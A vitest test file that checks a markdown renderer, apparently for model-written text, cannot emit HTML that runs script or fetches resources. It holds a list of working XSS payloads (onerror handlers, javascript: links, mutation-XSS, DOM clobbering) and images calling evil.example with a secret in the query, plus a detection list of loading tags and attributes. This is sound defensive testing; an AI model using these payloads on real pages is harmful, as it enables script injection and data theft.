// @vitest-environment jsdom
// Whatever is written: it can do nothing to the page, and nothing is fetched. On a DOM that parses as browsers do.
// A failure names its seed; RENDER_SEED=… RENDER_TEXTS=1 makes the same text again.
import { describe, expect, it } from 'vitest'
import { Seeded } from './seeded'
import { safeHtml } from './safe'
import { MarkdownStream } from './stream'
import { Writer } from './writing'

const env = (globalThis as { process?: { env: Record<string, string | undefined> } }).process?.env ?? {}
const SEED = Number(env['RENDER_SEED'] ?? 20261130)
const TEXTS = Number(env['RENDER_TEXTS'] ?? 250)

const seeds = Array.from({ length: TEXTS }, (_, i) => SEED + i)
const textOf = (seed: number): string => new Writer(new Seeded(seed)).text()

function shown(text: string): string[] {
  const stream = new MarkdownStream()
  stream.append(text)
  stream.finish()
  return [...htmlOf(stream.read())]
}

/** Every piece of HTML that reaches the page. */
function* htmlOf(value: unknown): Generator<string> {
  if (Array.isArray(value)) for (const one of value) yield* htmlOf(one)
  else if (value !== null && typeof value === 'object') {
    for (const [name, held] of Object.entries(value)) {
      if (['html', 'summary'].includes(name)) yield String(held)
      else if (['head', 'cells'].includes(name)) yield* (held as string[])
      else yield* htmlOf(held)
    }
  }
}

const FETCHES = 'script, iframe, img, image, picture, source, video, audio, object, embed, link, meta, base, form, input, button, style, svg, use, template, noscript, frame, portal'
const LOADS = /^(?:src|srcset|background|poster|data|action|formaction|style|xlink:href|ping|id|name|class)$/i

function harmful(html: string): string[] {
  const page = new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html')
  const found = [...page.querySelectorAll(FETCHES)].map((element) => element.outerHTML)
  for (const element of page.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const bad = LOADS.test(name) || /^on/i.test(name)
      const address = name === 'href' && !/^(?:https?:|mailto:|data:image\/)/i.test(value)
      if (bad || address) found.push(element.outerHTML)
    }
    if (/^data:/i.test(element.getAttribute('href') ?? '') && !element.hasAttribute('data-picture')) found.push(element.outerHTML)
  }
  return found
}

/** Ways into a page that were found by those who look for them. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a data-picture="1" href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?secret)',
  '![x](//evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.example/y.png',
  '<iframe src="https://example.org"></iframe>',
  '<form action="/api/evict"><button>x</button></form>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example)</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div id="app" class="x" name="y">clobber</div>',
  '<a href="https://x.example" ping="https://evil.example">x</a>',
  '<b onmouseover=alert(1)//',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=x>y</b> |',
  '[^x]\n\n[^x]: <img src=x onerror=alert(1)>',
  '<https://example.org/"onmouseover=alert(1)>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '$\\href{javascript:alert(1)}{x}$',
]

describe('what a model writes', () => {
  it.each(ATTACKS)('can do nothing: %s', (text) => {
    for (const html of shown(text)) expect(harmful(html), html).toEqual([])
  })

  it.each(ATTACKS)('can do nothing within other blocks: %s', (text) => {
    for (const [first, then] of [['> ', '> '], ['- a\n- ', '  '], ['**b ', ''], ['| a |\n|---|\n| ', '']] as const) {
      const inside = first + text.replaceAll('\n', `\n${then}`)
      for (const html of shown(inside)) expect(harmful(html), html).toEqual([])
    }
  })

  it(`can do nothing whatever it is (${TEXTS} texts)`, () => {
    for (const seed of seeds) {
      const text = textOf(seed)
      for (const html of shown(text)) expect(harmful(html), `seed ${seed}: ${JSON.stringify(text)}`).toEqual([])
    }
  }, 240_000)

  it('says the same when its HTML is washed again', () => {
    for (const seed of seeds) {
      for (const html of shown(textOf(seed))) expect(safeHtml(html), `seed ${seed}`).toBe(html)
    }
  }, 240_000)
})
